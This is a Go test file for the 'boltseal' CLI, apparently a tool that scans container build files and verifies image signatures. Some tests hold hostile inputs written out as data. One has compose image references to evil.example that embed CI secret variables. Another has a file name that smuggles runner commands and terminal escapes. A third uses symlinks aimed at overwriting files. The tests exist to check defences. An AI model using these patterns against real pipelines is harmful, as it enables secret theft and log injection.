package cli_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/boltseal/boltseal/cli"
	"github.com/boltseal/boltseal/internal/registrytest"
	"github.com/boltseal/boltseal/internal/runnertest"
)

// workspaceOf makes a workspace of files.
func workspaceOf(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		full := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(full), 0o750); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// A list is what boltseal scan --output json writes.
type list struct {
	Version int
	Uses    []struct {
		Image, Text, Kind, File, Stage, Error string
		Line, Column                          int
		Warning                               bool
	}
	Warnings []struct {
		Message, File string
		Line          int
	}
}

// places are the uses as IMAGE FILE:LINE:COLUMN, or with the error in place of
// the image.
func (l list) places() []string {
	var out []string
	for _, u := range l.Uses {
		what := u.Image
		if u.Error != "" {
			what = "error"
		}
		out = append(out, fmt.Sprintf("%s %s:%d:%d", what, u.File, u.Line, u.Column))
	}
	return out
}

// runScan runs boltseal scan in dir.
func runScan(t *testing.T, dir string, vars map[string]string, args ...string) (list, int) {
	t.Helper()
	var out, errs bytes.Buffer
	lookup := func(name string) (string, bool) { v, ok := vars[name]; return v, ok }
	c := cli.Command{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errs, LookupEnv: lookup, Dir: dir}
	code := c.Main(t.Context(), append([]string{"boltseal", "scan", "--output", "json"}, args...))
	var l list
	if code == cli.ExitPassed || code == cli.ExitClosed {
		if err := json.Unmarshal(out.Bytes(), &l); err != nil {
			t.Fatalf("%v\n%s%s", err, out.String(), errs.String())
		}
	}
	return l, code
}

// Paths are relative to the workspace, wherever they were written from.
func TestScanPaths(t *testing.T) {
	t.Parallel()
	dir := workspaceOf(t, map[string]string{
		"repo/Dockerfile":             "FROM root\n",
		"repo/api/Dockerfile":         "FROM api\n",
		"repo/api/compose.yaml":       "services: {a: {build: ..}}\n",
		"repo/deploy/pod.yaml":        "kind: Pod\nspec: {containers: [{image: pod}]}\n",
		"other/.git/HEAD":             "",
		"other/Dockerfile":            "FROM other\n",
		"other/sub/Dockerfile":        "FROM sub\n",
		"other/sub/compose.yaml":      "services: {a: {build: ..}}\n",
		"loose/compose.yaml":          "services: {a: {build: ../other}}\n",
		"loose/kubernetes:Dockerfile": "FROM colon\n",
	})
	repo, other := filepath.Join(dir, "repo"), filepath.Join(dir, "other")
	in := func(parts ...string) string {
		return filepath.ToSlash(filepath.Join(append([]string{dir}, parts...)...))
	}
	const (
		root = "docker.io/library/root:latest Dockerfile:1:6"
		api  = "docker.io/library/api:latest api/Dockerfile:1:6"
	)
	for _, tc := range []struct {
		name, dir string
		args      []string
		code      int
		want      []string
	}{
		{"all", repo, nil, 0, []string{root, api}},
		{"the folder itself", repo, []string{"."}, 0, []string{root, api}},
		{"its absolute path", repo, []string{repo}, 0, []string{root, api}},
		{"a folder, whose build leads out of it", repo, []string{"api"}, 0, []string{root, api}},
		{"absolute", repo, []string{filepath.Join(repo, "api", "Dockerfile")}, 0, []string{api}},
		{"as an argument and by --file", repo, []string{"api/Dockerfile", "-f", "Dockerfile"}, 0, []string{root, api}},
		{"a format", repo, []string{"kubernetes:deploy"}, 0, []string{"docker.io/library/pod:latest deploy/pod.yaml:2:29"}},
		{"of an absolute path", repo, []string{"kubernetes:" + filepath.Join(repo, "deploy")}, 0, []string{"docker.io/library/pod:latest deploy/pod.yaml:2:29"}},
		{"outside", repo, []string{"../other"}, 0, []string{"docker.io/library/other:latest ../other/Dockerfile:1:6", "docker.io/library/sub:latest ../other/sub/Dockerfile:1:6"}},
		{"outside, absolute", repo, []string{other}, 0, []string{"docker.io/library/other:latest " + in("other/Dockerfile:1:6"), "docker.io/library/sub:latest " + in("other/sub/Dockerfile:1:6")}},
		{"a file outside, within its repository", repo, []string{"../other/sub/compose.yaml"}, 0, []string{"docker.io/library/other:latest ../other/Dockerfile:1:6"}},
		{"a file further up", filepath.Join(other, "sub"), []string{"../Dockerfile"}, 0, []string{"docker.io/library/other:latest ../Dockerfile:1:6"}},
		{"a file beside, in a repository", filepath.Join(repo, "api"), []string{"../../other/sub/Dockerfile"}, 0, []string{"docker.io/library/sub:latest ../../other/sub/Dockerfile:1:6"}},
		{"a file outside, whose build leads further", repo, []string{"../loose/compose.yaml"}, 1, []string{"error ../loose/compose.yaml:1:23"}},
		{"both", repo, []string{"Dockerfile", "../other/Dockerfile"}, 0, []string{"docker.io/library/other:latest ../other/Dockerfile:1:6", root}},
		{"no such folder", repo, []string{"../none"}, 2, nil},
		{"glob outside", repo, []string{"../other/*"}, 2, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			l, code := runScan(t, tc.dir, nil, tc.args...)
			if got := l.places(); code != tc.code || !slices.Equal(got, tc.want) {
				t.Errorf("exit %d, %q; want %d, %q", code, got, tc.code, tc.want)
			}
		})
	}
}

// A reference is sent to the registry that it names. What a file puts into one
// must not be a secret of the job.
func TestScanEnvironment(t *testing.T) {
	t.Parallel()
	vars := map[string]string{"TAG": "v1", "EMPTY": "", "AUTH_TAG": "v2", "CI_DEPENDENCY_PROXY_PREFIX": "evil.example/proxy"}
	secrets := []string{"GITHUB_TOKEN", "NPM_TOKEN", "my_password", "AWS_SECRET_ACCESS_KEY", "API_KEY", "SSH_PRIVATE_KEY", "ACTIONS_ID_TOKEN_REQUEST_URL", "BOLTSEAL_INPUTS", "Db_Passwd", "GCP_CREDENTIALS",
		"GH_PAT", "PGP_PASSPHRASE", "DB_PASS", "DB_PWD", "DOCKER_AUTH_CONFIG", "SLACK_WEBHOOK", "SENTRY_DSN", "SSH_KEY", "DEPLOY_KEY", "SIGNING_KEY", "AZURE_STORAGE_KEY",
		"NPM_AUTH", "JWT", "CI_JOB_JWT", "SESSION_COOKIE", "KUBECONFIG", "VAULT_UNSEAL_KEY", "ACTIONS_RUNTIME_URL", "SONAR_LOGIN", "APIKEY", "AZURE_STORAGE_CONNECTION_STRING",
	}
	text := "services:\n  known: {image: 'evil.example/a:${TAG}'}\n  empty: {image: 'evil.example/b:${EMPTY-x}y'}\n  unset: {image: 'evil.example/c:${UNSET-x}y'}\n  auth: {image: 'evil.example/d:${AUTH_TAG}'}\n  proxy: {image: '${CI_DEPENDENCY_PROXY_PREFIX}/e'}\n"
	for _, name := range secrets {
		vars[name] = "s3cr3t"
	}
	vars["DATABASE_URL"] = "postgres://me:s3cr3t@db"
	for i, name := range append(secrets, "DATABASE_URL") {
		text += fmt.Sprintf("  s%d: {image: 'evil.example/%d:${%s}'}\n", i, i, name)
	}
	dir := workspaceOf(t, map[string]string{
		"compose.yaml":    text,
		"docker-bake.hcl": "variable \"NPM_TOKEN\" { default = \"none\" }\ntarget \"default\" {\n  dockerfile-inline = \"FROM evil.example/bake:${NPM_TOKEN}\"\n}\n",
	})
	l, code := runScan(t, dir, vars)
	got := map[string]int{}
	for _, u := range l.Uses {
		if strings.Contains(u.Image, "s3cr3t") {
			t.Errorf("%s:%d: the secret is in %s", u.File, u.Line, u.Image)
		}
		if u.Error != "" {
			got["error"]++
		} else {
			got[u.Image]++
		}
	}
	want := map[string]int{"evil.example/a:v1": 1, "evil.example/b:y": 1, "evil.example/c:xy": 1, "evil.example/d:v2": 1, "evil.example/proxy/e:latest": 1, "error": len(secrets) + 2}
	if code != 1 || !maps.Equal(got, want) {
		t.Errorf("exit %d, %v, want %v", code, got, want)
	}
}

// Build arguments come from the environment only where they are asked for.
func TestScanBuildArgs(t *testing.T) {
	t.Parallel()
	dir := workspaceOf(t, map[string]string{"Dockerfile": "ARG BASE=none\nFROM ${BASE}\n"})
	vars := map[string]string{"BASE": "alpine", "NPM_TOKEN": "x"}
	for _, tc := range []struct {
		args []string
		want string
	}{
		{nil, "docker.io/library/none:latest"},
		{[]string{"--build-arg", "BASE"}, "docker.io/library/alpine:latest"},
		{[]string{"--build-args", "BASE=debian=x"}, ""},
		{[]string{"--build-arg", "BASE=debian", "--build-arg", "BASE=busybox"}, "docker.io/library/busybox:latest"},
		{[]string{"--build-contexts", "docker.io/library/none=docker-image://alpine:3"}, "docker.io/library/alpine:3"},
		{[]string{"--build-context", "none=./lib"}, "nothing"},
	} {
		l, _ := runScan(t, dir, vars, tc.args...)
		got := "nothing"
		if len(l.Uses) > 0 {
			got = l.Uses[0].Image
		}
		if got != tc.want {
			t.Errorf("%q: %s, want %s", tc.args, got, tc.want)
		}
	}
}

// What is only warned of fails with --strict.
func TestScanStrict(t *testing.T) {
	t.Parallel()
	dir := workspaceOf(t, map[string]string{".github/workflows/ci.yml": "jobs:\n  a:\n    container: node:${{ vars.NODE }}\n  b: {container: alpine}\n"})
	l, code := runScan(t, dir, nil)
	want := []string{"error .github/workflows/ci.yml:3:16", "docker.io/library/alpine:latest .github/workflows/ci.yml:4:18"}
	if code != 0 || !slices.Equal(l.places(), want) || !l.Uses[0].Warning || l.Uses[1].Warning {
		t.Errorf("exit %d, %+v", code, l)
	}
	l, code = runScan(t, dir, nil, "--strict")
	if code != 1 || !slices.Equal(l.places(), want) || l.Uses[0].Warning || l.Uses[0].Kind != "container" || l.Uses[0].Text != "node:${{ vars.NODE }}" {
		t.Errorf("exit %d, %+v", code, l)
	}
}

// The Action searches the workspace where it is given neither images nor files,
// and marks the lines.
func TestActionFiles(t *testing.T) {
	t.Parallel()
	w := newWorld(t, registrytest.Options{})
	w.signLegacy("team/app", w.image("team/app"), by())
	w.image("team/unsigned")
	app, unsigned := w.reg.Host()+"/team/app:v1", w.reg.Host()+"/team/unsigned:v1"
	dir := workspaceOf(t, map[string]string{
		"Dockerfile":               "FROM " + app + " AS base\nFROM base\nCOPY --from=" + app + " / /\n",
		"bad.Dockerfile":           "ARG TAG\nFROM " + unsigned + "\nCOPY --from=" + unsigned + " / /\nFROM " + unsigned + "${TAG}\nCOPY --from=0 / /\n",
		".github/workflows/ci.yml": "jobs:\n  a:\n    container: node:${{ vars.NODE }}\n",
	})
	for _, tc := range []struct {
		name    string
		change  func(map[string]string)
		code    int
		verdict string
		marks   []string
		images  int
	}{
		{"whole workspace", with("mode", "enforce"), 1, "unsigned", []string{"error bad.Dockerfile:2:6", "error bad.Dockerfile:4:6", "error bad.Dockerfile:3:13", "warning .github/workflows/ci.yml:3:16"}, 3},
		{"one file", with("files", "Dockerfile"), 0, "verified", nil, 1},
		{"excluded", with("exclude", "*.Dockerfile"), 0, "verified", []string{"warning .github/workflows/ci.yml:3:16"}, 1},
		{"strict", func(in map[string]string) { in["exclude"], in["strict"] = "*.Dockerfile", "true" }, 1, "unresolved", []string{"error .github/workflows/ci.yml:3:16"}, 2},
		{"images only", with("images", app), 0, "verified", nil, 1},
		{"images and files", func(in map[string]string) { in["images"], in["files"] = unsigned, "Dockerfile" }, 1, "unsigned", nil, 2},
		{"with build arguments", func(in map[string]string) { in["files"], in["build-args"] = "bad.Dockerfile", "# the tag\nTAG=.1" }, 1, "unsigned", []string{"error bad.Dockerfile:2:6", "error bad.Dockerfile:4:6", "error bad.Dockerfile:3:13"}, 2},
		{"nothing found", func(in map[string]string) { in["exclude"] = "**" }, 1, "undecided", nil, 0},
		{"nothing found, which is allowed", func(in map[string]string) { in["exclude"], in["allow-empty"] = "**", "true" }, 0, "undecided", nil, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			j := newJob(t)
			j.workspace = dir
			got := j.run(w.inputs("", tc.change))
			var marks []string
			for _, c := range got.commands {
				if f := c.Properties["file"]; f != "" && (c.Name == "error" || c.Name == "warning") {
					marks = append(marks, fmt.Sprintf("%s %s:%s:%s", c.Name, f, c.Properties["line"], c.Properties["col"]))
				}
			}
			var images []struct{ Reference string }
			if err := json.Unmarshal([]byte(got.outputs["images"]), &images); err != nil {
				t.Fatal(err)
			}
			if got.code != tc.code || got.outputs["verdict"] != tc.verdict || got.outputs["passed"] != fmt.Sprint(tc.verdict == "verified") || !slices.Equal(marks, tc.marks) || len(images) != tc.images {
				t.Errorf("exit %d, %s, passed=%s, marks %q, %d images\n%s", got.code, got.outputs["verdict"], got.outputs["passed"], marks, len(images), got.log)
			}
		})
	}
}

// On pull_request_target anybody may have written the files: they see no
// environment at all.
func TestActionFilesBlind(t *testing.T) {
	t.Parallel()
	w := newWorld(t, registrytest.Options{})
	w.signLegacy("team/app", w.image("team/app"), by())
	dir := workspaceOf(t, map[string]string{"compose.yaml": "services: {a: {image: '" + w.reg.Host() + "/team/app:${TAG}'}}\n"})
	for event, want := range map[string]string{"push": "verified", "pull_request": "verified", "pull_request_target": "unresolved"} {
		j := newJob(t)
		j.workspace = dir
		j.vars["GITHUB_EVENT_NAME"], j.vars["TAG"] = event, "v1"
		if got := j.run(w.inputs("")); got.outputs["verdict"] != want {
			t.Errorf("%s: %s, want %s\n%s", event, got.outputs["verdict"], want, got.log)
		}
	}
	j := newJob(t)
	j.workspace = dir
	j.vars["GITHUB_EVENT_NAME"], j.vars["TAG"] = "pull_request_target", "v1"
	if got := j.run(w.inputs("", with("build-args", "TAG"))); got.code != cli.ExitUsage || !strings.Contains(got.log, "no values from the environment on pull_request_target") {
		t.Errorf("exit %d: %s", got.code, got.log)
	}
}

// A password goes to one registry. What is not known is on none.
func TestScanCredentials(t *testing.T) {
	t.Parallel()
	dir := workspaceOf(t, map[string]string{"Dockerfile": "ARG X\nFROM $X\n", "two.Dockerfile": "FROM a.example/x\nCOPY --from=b.example/x / /\n"})
	_, root := newInstance(t)
	for file, want := range map[string]string{"Dockerfile": "unresolved", "two.Dockerfile": "a.example and b.example"} {
		var out bytes.Buffer
		noWait := func(ctx context.Context, _ time.Duration) error { return ctx.Err() }
		c := cli.Command{Stdin: strings.NewReader("password"), Stdout: &out, Stderr: &out, LookupEnv: lookup(env), Sleep: noWait, Dir: dir}
		c.Main(t.Context(), []string{"boltseal", "verify", "-f", file, "--trusted-root", root, "--certificate-identity", identity, "--certificate-oidc-issuer", issuer, "--registry-username", "me", "--registry-password-stdin"})
		if !strings.Contains(out.String(), want) {
			t.Errorf("%s: %s", file, out.String())
		}
	}
}

// Names of files are text from outside.
func TestScanHostileNames(t *testing.T) {
	t.Parallel()
	name := "a\n::error::x\x1b[2J##[add-mask]\u202e.Dockerfile"
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, name), []byte("FROM $X\n"), 0o600); err != nil {
		t.Skipf("this system has no such names: %v", err)
	}
	var out bytes.Buffer
	c := cli.Command{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &out, LookupEnv: lookup(env), Dir: dir}
	for _, output := range []string{"text", "json"} {
		out.Reset()
		if code := c.Main(t.Context(), []string{"boltseal", "scan", "--output", output}); code != 1 {
			t.Errorf("exit %d", code)
		}
		if found := runnertest.Commands(out.String()); len(found) > 0 || strings.ContainsAny(out.String(), "\x1b\u202e") {
			t.Errorf("the runner obeys %+v in\n%s", found, out.String())
		}
	}
}

// A file that is asked for by its path is read as -f of the tools reads it:
// without an override that nobody asked for, and together with the others.
func TestScanNamed(t *testing.T) {
	t.Parallel()
	dir := workspaceOf(t, map[string]string{
		"compose.yaml":             "services: {a: {image: base}}\n",
		"compose.override.yaml":    "services: {a: {image: dev}}\n",
		"compose.prod.yaml":        "services: {a: {image: prod}, b: {image: more}}\n",
		"sub/compose.yaml":         "services: {a: {image: sub}}\n",
		"docker-bake.hcl":          "target \"default\" { contexts = { x = \"docker-image://bake-base\" } }\n",
		"docker-bake.override.hcl": "target \"default\" { contexts = { x = \"docker-image://bake-dev\" } }\n",
		"Dockerfile":               "FROM x\n",
	})
	for _, tc := range []struct{ args, want string }{
		{".", "bake-dev dev more prod sub x"},
		{"compose.yaml", "base"},
		{"compose.yaml compose.prod.yaml", "more prod"},
		{"compose.prod.yaml compose.yaml", "base more"},
		{"compose.yaml compose.override.yaml", "dev"},
		{"compose.yaml sub/compose.yaml", "base sub"},
		{"compose.override.yaml", "dev"},
		{"compose*.yaml", "dev more prod"}, // a glob finds, as a walk does
		{"docker-bake.hcl", "bake-base"},
		{"docker-bake.hcl docker-bake.override.hcl", "bake-dev"},
		{"docker-bake.override.hcl docker-bake.hcl", "bake-base"},
		{". compose.yaml --exclude sub", "bake-dev base dev more prod x"},
	} {
		l, code := runScan(t, dir, nil, strings.Fields(tc.args)...)
		var got []string
		for _, u := range l.Uses {
			got = append(got, strings.TrimSuffix(strings.TrimPrefix(u.Image, "docker.io/library/"), ":latest"))
		}
		slices.Sort(got)
		if code != 0 || strings.Join(got, " ") != tc.want {
			t.Errorf("%s: exit %d, %q, want %s", tc.args, code, got, tc.want)
		}
	}
}

// A variable that is set and withheld is not taken for one that is not set: the
// build would use its value, and not the default.
func TestScanWithheld(t *testing.T) {
	t.Parallel()
	dir := workspaceOf(t, map[string]string{
		"compose.yaml":    "services:\n  a: {image: 'a:${TOKENIZER_TAG:-1}'}\n  b: {image: 'b${TOKENIZER_TAG:+x}'}\n  c: {build: {dockerfile_inline: \"ARG T=1\\nFROM c:$$T\", args: {T: '${TOKENIZER_TAG:-2}'}}}\n",
		"docker-bake.hcl": "variable \"TOKENIZER_TAG\" { default = \"1\" }\ntarget \"default\" {\n  dockerfile-inline = \"FROM d:${TOKENIZER_TAG == \"\" ? \"x\" : \"y\"}\"\n}\n",
	})
	l, code := runScan(t, dir, map[string]string{"TOKENIZER_TAG": "7"})
	want := []string{"error compose.yaml:2:15", "error compose.yaml:3:15", "error compose.yaml:4:49", "error docker-bake.hcl:3:24"}
	if code != 1 || !slices.Equal(l.places(), want) {
		t.Errorf("exit %d, %q, want %q", code, l.places(), want)
	}
	for _, u := range l.Uses {
		if u.Error != "" && !strings.Contains(u.Error, "files do not see it") {
			t.Errorf("%s:%d: %s", u.File, u.Line, u.Error)
		}
	}
	if l, code = runScan(t, dir, nil); code != 0 || len(l.Uses) != 4 {
		t.Errorf("not set: exit %d, %q", code, l.places())
	}
}

// In a folder of a repository, what git makes of the repository counts, and a
// build leads to its other folders.
func TestScanWithinRepository(t *testing.T) {
	t.Parallel()
	dir := workspaceOf(t, map[string]string{
		".git/HEAD":                "ref: refs/heads/main\n",
		".gitignore":               "*.local\nother/\n",
		"svc/Dockerfile":           "FROM svc\n",
		"svc/Dockerfile.local":     "FROM local\n",
		"svc/deep/Dockerfile":      "FROM deep\n",
		"svc/deep/compose.yaml":    "services: {a: {build: ../../lib}}\n",
		"lib/Dockerfile":           "FROM lib\n",
		"svc/deep/more/Dockerfile": "FROM more\n",
	})
	svc := filepath.Join(dir, "svc")
	for _, tc := range []struct {
		args string
		want []string
	}{
		{"", []string{"docker.io/library/lib:latest ../lib/Dockerfile:1:6", "docker.io/library/svc:latest Dockerfile:1:6", "docker.io/library/deep:latest deep/Dockerfile:1:6", "docker.io/library/more:latest deep/more/Dockerfile:1:6"}},
		{"--exclude deep", []string{"docker.io/library/svc:latest Dockerfile:1:6"}},
		{"--exclude deep/more --exclude *.yaml", []string{"docker.io/library/svc:latest Dockerfile:1:6", "docker.io/library/deep:latest deep/Dockerfile:1:6"}},
		{"Dockerfile.local", []string{"docker.io/library/local:latest Dockerfile.local:1:6"}},
		{"deep/*/Dockerfile", []string{"docker.io/library/more:latest deep/more/Dockerfile:1:6"}},
		{"../lib", []string{"docker.io/library/lib:latest ../lib/Dockerfile:1:6"}},
		{"nope", nil},
	} {
		l, code := runScan(t, svc, nil, strings.Fields(tc.args)...)
		if got := l.places(); (code != 0) != (tc.want == nil) || !slices.Equal(got, tc.want) {
			t.Errorf("%s: exit %d, %q, want %q", tc.args, code, got, tc.want)
		}
		if tc.args == "" && (len(l.Warnings) != 1 || l.Warnings[0].File != "Dockerfile.local") {
			t.Errorf("warnings %+v", l.Warnings)
		}
	}
	r := runIn(t, context.Background(), "", env, "scan")
	if r.code == 0 {
		t.Error("a folder without any image")
	}
}

// The slip of one who knows scan: files are no images.
func TestVerifyFileAsImage(t *testing.T) {
	t.Parallel()
	dir := workspaceOf(t, map[string]string{"compose.yaml": "services: {}\n", "api/x": ""})
	for arg, want := range map[string]string{"compose.yaml": "write --file compose.yaml", "api/": "write --file api/"} {
		var out bytes.Buffer
		c := cli.Command{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &out, LookupEnv: lookup(env), Dir: dir}
		if code := c.Main(t.Context(), []string{"boltseal", "verify", arg, "--key", "none.pub"}); code != cli.ExitUsage || !strings.Contains(out.String(), want) {
			t.Errorf("%s: exit %d, %s", arg, code, out.String())
		}
	}
}

// What vouches for the platforms that are built for says nothing of another one
// that a file pulls.
func TestForeignPlatform(t *testing.T) {
	t.Parallel()
	w := newWorld(t, registrytest.Options{})
	amd, evil := w.child("amd64", ""), w.child("s390x", "")
	w.must(w.reg.PutIndex(repo, "v1", amd, evil))
	w.signLegacy(repo, amd, by())
	img := w.reg.Host() + "/" + repo + ":v1"
	dir := workspaceOf(t, map[string]string{
		"Dockerfile":         "FROM " + img + "\n",
		"foreign.Dockerfile": "FROM --platform=linux/s390x " + img + " AS x\nFROM scratch\nCOPY --from=x / /\n",
		"both.Dockerfile":    "FROM --platform=linux/s390x " + img + " AS x\nFROM " + img + "\nCOPY --from=x / /\n",
		"unknown.Dockerfile": "ARG P\nFROM --platform=$P " + img + "\n",
		"compose.yaml":       "services:\n  a: {image: '" + img + "', platform: linux/amd64}\n",
		"foreign.yaml":       "services:\n  a: {image: '" + img + "', platform: linux/s390x}\n",
		"build.yaml":         "services:\n  a: {build: {context: ., platforms: [linux/s390x]}}\n",
		"docker-bake.hcl":    "target \"default\" { platforms = [\"linux/s390x\"] }\n",
	})
	for file, want := range map[string]string{
		"Dockerfile": "verified", "foreign.Dockerfile": "unsigned", "both.Dockerfile": "unsigned verified", "unknown.Dockerfile": "unsigned",
		"compose.yaml": "verified", "compose:foreign.yaml": "unsigned", "compose:build.yaml": "unsigned", "docker-bake.hcl": "unsigned",
	} {
		var out, errs bytes.Buffer
		c := cli.Command{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errs, LookupEnv: lookup(env), Dir: dir}
		code := c.Main(t.Context(), []string{
			"boltseal", "verify", "--file", file, "--platform", "linux/amd64", "--output", "json",
			"--trusted-root", w.root, "--certificate-identity", identity, "--certificate-oidc-issuer", issuer,
		})
		var doc struct{ Images []struct{ Reason string } }
		if err := json.Unmarshal(out.Bytes(), &doc); err != nil {
			t.Fatalf("%s: %v\n%s", file, err, errs.String())
		}
		var got []string
		for _, i := range doc.Images {
			got = append(got, i.Reason)
		}
		if slices.Sort(got); strings.Join(got, " ") != want || (code == 0) != (want == "verified") {
			t.Errorf("%s: exit %d, %q, want %s", file, code, got, want)
		}
	}
}

// A report takes no file's place that was read, and follows nobody's links.
func TestReportOverWorkspace(t *testing.T) {
	t.Parallel()
	w := newWorld(t, registrytest.Options{})
	dir := workspaceOf(t, map[string]string{
		"compose.yaml": "services: {a: {build: {context: ., dockerfile: df}}}\n",
		"df":           "FROM " + w.reg.Host() + "/team/app:v1\n",
		"victim/rc":    "keep\n",
	})
	for name, target := range map[string]string{"report.json": "victim/rc", "dangling.json": "victim/new"} {
		if err := os.Symlink(target, filepath.Join(dir, name)); err != nil {
			t.Skipf("this system has no links: %v", err)
		}
	}
	for name, want := range map[string]string{"compose.yaml": "a file that this run reads", "df": "a file that this run reads", "report.json": "is a link", "dangling.json": "is a link"} {
		var out bytes.Buffer
		c := cli.Command{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &out, LookupEnv: lookup(env), Dir: dir}
		code := c.Main(t.Context(), []string{
			"boltseal", "verify", "--file", "compose.yaml", "--report-file", filepath.Join(dir, name),
			"--trusted-root", w.root, "--certificate-identity", identity, "--certificate-oidc-issuer", issuer,
		})
		if code != cli.ExitUsage || !strings.Contains(out.String(), want) {
			t.Errorf("%s: exit %d, %s", name, code, out.String())
		}
	}
	for name, want := range map[string]string{"df": "FROM", "victim/rc": "keep"} {
		if body, err := os.ReadFile(filepath.Join(dir, name)); err != nil || !strings.HasPrefix(string(body), want) {
			t.Errorf("%s: %q, %v", name, body, err)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "victim", "new")); err == nil {
		t.Error("a file was made where a link leads")
	}
}

// What could not be looked into, and what was left out, gets to the user.
func TestScanTellsAll(t *testing.T) {
	t.Parallel()
	deep := strings.Repeat("d/", 260)
	dir := workspaceOf(t, map[string]string{"Dockerfile": "FROM a\n", deep + "Dockerfile": "FROM b\n", ".gitignore": "gen/\n", "gen/Dockerfile": "FROM c\n"})
	l, code := runScan(t, dir, nil)
	if code != 1 || len(l.Uses) != 2 || l.Uses[1].Kind != "file" || !strings.Contains(l.Uses[1].Error, "nested more than 255 deep") {
		t.Errorf("exit %d, %+v", code, l.Uses)
	}
	if len(l.Warnings) != 1 || l.Warnings[0].File != "gen/Dockerfile" {
		t.Errorf("%+v", l.Warnings)
	}
	if l, code = runScan(t, dir, nil, "--strict", "--exclude", "d"); code != 1 || len(l.Uses) != 2 || l.Uses[1].File != "gen/Dockerfile" || l.Uses[1].Kind != "file" {
		t.Errorf("strict: exit %d, %+v", code, l.Uses)
	}
	if l, _ = runScan(t, dir, nil, "--exclude", "nothing-like-this"); len(l.Warnings) != 2 {
		t.Errorf("%+v", l.Warnings)
	}
	w := workspaceOf(t, map[string]string{".gitignore": "gen/\n", "gen/Dockerfile": "FROM c\n", "x/y": ""})
	if l, _ = runScan(t, filepath.Join(w, "x"), nil, w); len(l.Warnings) != 2 || l.Warnings[1].File != filepath.ToSlash(filepath.Join(w, "gen", "Dockerfile")) {
		t.Errorf("%+v", l.Warnings)
	}
}

// Where nobody knows what git tracks, a gate ignores nothing: whoever writes
// .gitignore would choose what it sees.
func TestVerifyWithoutRepository(t *testing.T) {
	t.Parallel()
	w := newWorld(t, registrytest.Options{})
	w.image("team/app")
	dir := workspaceOf(t, map[string]string{".gitignore": "api/\n", "api/Dockerfile": "FROM " + w.reg.Host() + "/team/app:v1\n"})
	if l, code := runScan(t, dir, nil); code != 1 || len(l.Uses) != 0 {
		t.Errorf("scan: exit %d, %+v", code, l.Uses)
	}
	var out bytes.Buffer
	c := cli.Command{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &out, LookupEnv: lookup(env), Dir: dir}
	code := c.Main(t.Context(), []string{"boltseal", "verify", "--trusted-root", w.root, "--certificate-identity", identity, "--certificate-oidc-issuer", issuer})
	if code != 1 || !strings.Contains(out.String(), "used at   api/Dockerfile:1:6") {
		t.Errorf("verify: exit %d, %s", code, out.String())
	}
}
